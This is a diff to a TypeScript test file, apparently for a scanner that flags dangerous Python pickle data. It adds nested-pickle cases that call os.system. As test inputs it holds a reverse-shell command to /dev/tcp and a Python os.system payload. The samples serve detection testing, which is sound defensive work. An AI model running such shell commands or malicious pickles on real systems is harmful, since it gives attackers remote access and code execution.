@@ -1,4 +1,4 @@
-import { bytes, call, proto, run, sglob, str } from '../formats/pickle/__tests__/assemble';
+import { blob, bytes, call, glob, proto, run, sglob, str } from '../formats/pickle/__tests__/assemble';
 import type { Severity } from '../report';
 import { atLeast } from '../report';
 import { stdlibSeverity } from '../rules/stdlib/severity';
@@ -205,10 +205,16 @@ describe('somebody else’s class', () => {
     ['a reverse shell', str('x'), str('bash -i >& /dev/tcp/10.0.0.1/1 0>&1')],
     ['Python that imports', str('x'), str("__import__('os').system('id')")],
     ['a command under a telling key', str('cmd'), str('echo hi')],
-    ['a nested pickle', str('x'), bytes('C', 12, 0x80, 4, 'cabc\ndef\n.')],
+    ['a pickle that runs a command', str('x'), blob(proto(4, call(sglob('os', 'system'), str('echo hi'))))],
+    ['one deep in it', str('x'), bytes('](', blob(proto(2, call(glob('posix', 'system'), str('echo hi')))), 'e')],
     ['a dangerous function', str('hook'), sglob('os', 'system')]
   ])('whose state holds %s', (_what, key, value) => {
     expect(object(key, value).some(one => atLeast(one, 'HIGH'))).toBe(true);
+  });
+
+  test('whose state holds a pickle that is clean, or itself worth no more than a look', () => {
+    expect(object(str('x'), blob(proto(4, ']')))).toEqual(['LOW']);
+    expect(object(str('x'), blob(proto(4, sglob('mylib', 'Part'), ')', 0x81)))).toEqual(['LOW', 'LOW']);
   });
 
   test('made by protocol 0 and 1 is no different', () => {
